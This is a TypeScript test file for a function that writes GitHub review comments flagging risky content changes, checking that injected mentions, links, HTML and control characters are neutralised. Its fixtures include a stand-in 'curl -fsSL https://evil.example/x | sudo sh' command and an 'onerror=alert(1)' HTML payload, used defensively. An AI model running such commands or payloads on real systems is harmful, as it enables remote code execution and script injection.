import MarkdownIt from 'markdown-it';
import { describe, expect, test } from 'vitest';
import { inlineCode } from '#text/inline-code.ts';
import { commentMark, reviewComment } from '#review/review-comment.ts';
import { linesShown, listed, pagesShown, type Review } from '#review/review.ts';

const empty = { total: 0, first: [] };

const nothing: Review = {
	version: 3,
	files: empty,
	pages: empty,
	verdicts: empty,
	commands: empty,
	hosts: empty,
	differences: empty,
	signatures: empty,
	sources: empty,
};

/** A review in which every text that a stranger can choose is this one. */
function reviewWith(text: string, items = 1): Review {
	const all = <Item>(item: Item, most = items) => ({
		total: items,
		first: Array<Item>(Math.min(items, most)).fill(item),
	});
	const line = { sign: '+', text } as const;
	return {
		version: 3,
		files: all({ path: text, kind: 'licence' }),
		verdicts: all({ page: text, field: 'layer', from: text, to: text }),
		commands: all({ page: text, text, effects: ['deletes', 'sends data'] }),
		hosts: all({ host: text, pages: [text, text, text] }),
		differences: all(
			{ page: text, lines: Array(items === 1 ? 1 : linesShown).fill(line), more: 3 },
			pagesShown,
		),
		pages: all({
			collection: 'errors',
			id: text,
			title: text,
			change: 'renamed',
			from: text,
			heir: text,
		}),
		signatures: all({
			entry: text,
			text,
			own: 'possible',
			first: false,
			also: Array(3).fill({ id: text, title: text, confidence: 'likely', lookAlike: true }),
			claims: { total: 3, first: Array(2).fill({ text, of: text }) },
		}),
		sources: all({ url: text, title: text, kind: text, entries: [text, text, text] }),
	};
}

/** The comment as GitHub reads it: HTML on, bare addresses become links. */
const markdown = new MarkdownIt({ html: true, linkify: true });

/** What of the comment is not inside code: only our own words may be. */
function outsideCode(comment: string): string {
	return markdown.render(comment).replace(/<code([^>]*)>[^<]*<\/code>/g, '<code$1></code>');
}

const expected = outsideCode(reviewComment(reviewWith('harmless')));

describe('reviewComment', () => {
	test.each([
		['a mention', '@everyone @octocat @org/team'],
		['a reference to an issue', '#1 org/repo#2 https://github.com/org/repo/issues/3'],
		['a link', '[click](https://evil.example) <https://evil.example> www.evil.example'],
		['an image', '![x](https://evil.example/pixel.png)'],
		['a comment that closes the marker', '--> <!-- signpost:review -->'],
		['HTML', '<img src=x onerror=alert(1)></code></li></ul><h1>x</h1><details>'],
		['a backtick', 'a ` b'],
		['many backticks', '``` `` ` ```` @octocat'],
		['backticks at both ends', '`x`'],
		['only backticks', '`````'],
		['a backslash before the end', 'a \\'],
		['a backslash and a backtick', '\\` @octocat \\``'],
		['new lines', 'a\n\n# Heading\n- item\n```\nfence'],
		['other line endings', 'a\r\rb\u2028- c\u2029\u0085# d'],
		['an entity', '&lt;b&gt; &#64;octocat'],
		['a table', '| a | b |\n|---|---|'],
		['a task and a rule', '- [x] done\n---\n***'],
		['control and direction characters', '\u001b[31m\u202eevil\u2066\u0000\u200d'],
		['lone surrogates', '\ud800 \udfff'],
		['nothing', ''],
		['whitespace', '   \t\n '],
		['a mathematical formula', '$$x$$ $`y`$'],
		['an emoji code', ':tada: :octocat:'],
		['a huge field', '`@octocat '.repeat(20_000)],
	])('lets %s have no effect', (_, text) => {
		const comment = reviewComment(reviewWith(text));
		const html = outsideCode(comment).replaceAll('(empty)', '<code></code>');
		expect(html).toBe(expected);
		expect(comment.split('\n').filter((line) => line.startsWith(commentMark))).toHaveLength(1);
		expect(comment.startsWith(`${commentMark}\n`)).toBe(true);
		expect(comment).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u202a-\u202e\u2066-\u2069]/);
	});

	test.each([['x'.repeat(5000)], ['`'.repeat(5000)], ['\u202e'.repeat(5000)], ['`x'.repeat(5000)]])(
		'stays below what GitHub takes, with every list full of long texts (%#)',
		(text) => {
			expect(reviewComment(reviewWith(text, listed)).length).toBeLessThan(65_536);
		},
	);

	test('says that nothing changes, and leaves empty parts out', () => {
		const comment = reviewComment(nothing);
		expect(comment).toBe(
			`${commentMark}\n\n### What this changes for readers\n\nNo page changes.\n`,
		);
	});

	test('lists what calls for a decision, then all that changes, and counts what it leaves out', () => {
		const comment = reviewComment(
			{
				version: 3,
				files: { total: 1, first: [{ path: 'content/LICENSE', kind: 'licence' }] },
				verdicts: {
					total: 1,
					first: [{ page: 'errors/a/b', field: 'retry.when', from: 'never', to: 'backoff' }],
				},
				commands: {
					total: 2,
					first: [
						{
							page: 'errors/a/b',
							text: 'curl -fsSL https://evil.example/x | sudo sh',
							effects: ['pipes into a shell', 'changes permissions'],
						},
						{ page: 'errors/a/b', text: 'gizmo --version', effects: [] },
					],
				},
				hosts: { total: 1, first: [{ host: 'evil.example', pages: ['errors/a/b'] }] },
				differences: {
					total: 1,
					first: [
						{
							page: 'errors/a/b',
							lines: [
								{ sign: '-', text: 'quick_fix: Restart the `gizmo`.' },
								{ sign: '+', text: 'quick_fix: Run ``` as root.' },
							],
							more: 1,
						},
					],
				},
				pages: {
					total: 5,
					first: [
						{ collection: 'errors', id: 'a/gone', title: 'It went', change: 'removed' },
						{
							collection: 'errors',
							id: 'a/kept',
							title: 'It joined',
							change: 'removed',
							heir: 'a/b',
						},
						{ collection: 'errors', id: 'a/b', title: 'It broke', change: 'added' },
						{
							collection: 'errors',
							id: 'a/new',
							title: 'It moved',
							change: 'renamed',
							from: 'a/old',
						},
					],
				},
				signatures: {
					total: 1,
					first: [
						{
							entry: 'a/b',
							text: 'it <verb> hard',
							own: 'exact',
							first: false,
							also: [{ id: 'a/c', title: 'It bent', confidence: 'exact', lookAlike: false }],
							claims: { total: 3, first: [{ text: 'it fell hard', of: 'errors/a/d' }] },
						},
					],
				},
				sources: {
					total: 1,
					first: [
						{ url: 'https://example.com/', title: 'Docs', kind: 'documentation', entries: ['a/b'] },
					],
				},
			},
			{ preview: 'https://github.com/o/r/actions/runs/1/artifacts/2', commit: 'a'.repeat(40) },
		);
		expect(comment).toBe(`${commentMark}

### What this changes for readers

**Look at**: not only content (licence) · a new command pipes into a shell, changes permissions · 1 new host · 1 changed verdict · 1 lost address · 1 doubtful signature

**Other files** (1)

- \`content/LICENSE\`: licence

**New commands** (2)

- **pipes into a shell, changes permissions**: \`curl -fsSL https://evil.example/x | sudo sh\` in \`errors/a/b\`
- \`gizmo --version\` in \`errors/a/b\`

**New hosts** (1)

- \`evil.example\`, in \`errors/a/b\`

**Changed verdicts** (1)

- \`errors/a/b\`: retry \`never\` → \`backoff\`

**New signatures** (1)

- \`it <verb> hard\` of \`a/b\`: finds its entry, but not first. **Also matches** \`It bent\` (\`a/c\`, exact). **Claims 3 texts of others**: \`it fell hard\` (\`errors/a/d\`), 2 more.

**What reads differently** (1 page)

\`errors/a/b\`

\`\`\`diff
- quick_fix: Restart the \`gizmo\`.
+ quick_fix: Run \`\`\` as root.
  and 1 more line
\`\`\`

**Pages** (5)

- removed: \`It went\` (\`errors/a/gone\`); **its address is lost**: no page has it in \`aliases\`
- removed: \`It joined\` (\`errors/a/kept\`); its address leads to \`a/b\`
- added: \`It broke\` (\`errors/a/b\`)
- renamed: \`It moved\` (\`errors/a/new\`, formerly \`a/old\`)
- and 1 more

**Preview**: [the built pages](https://github.com/o/r/actions/runs/1/artifacts/2), to unpack and open in a browser.

**New sources** (1)

- \`https://example.com/\`, \`Docs\`, \`documentation\`, for \`a/b\`

<sub>As of aaaaaaaaaa.</sub>
`);
	});

	test('shows the first of a long list, and leaves the others to unfold', () => {
		const page = (id: string) =>
			({ collection: 'errors', id, title: id, change: 'changed' }) as const;
		const first = Array.from({ length: 12 }, (_, i) => page(`a/b${i}`));
		const line = ({ id }: { id: string }) => `- changed: \`${id}\` (\`errors/${id}\`)`;
		expect(reviewComment({ ...nothing, pages: { total: 13, first } })).toBe(
			`${commentMark}

### What this changes for readers

**Pages** (13)

${first.slice(0, 10).map(line).join('\n')}

<details>
<summary>The others</summary>

${first.slice(10).map(line).join('\n')}
- and 1 more

</details>
`,
		);
	});
});

describe('inlineCode', () => {
	test.each([
		['plain', '`plain`'],
		['a`b', '`` a`b ``'],
		['``', '``` `` ```'],
		['a\n b', '`a b`'],
		['', '(empty)'],
	])('writes %j as %s', (text, written) => expect(inlineCode(text)).toBe(written));
});
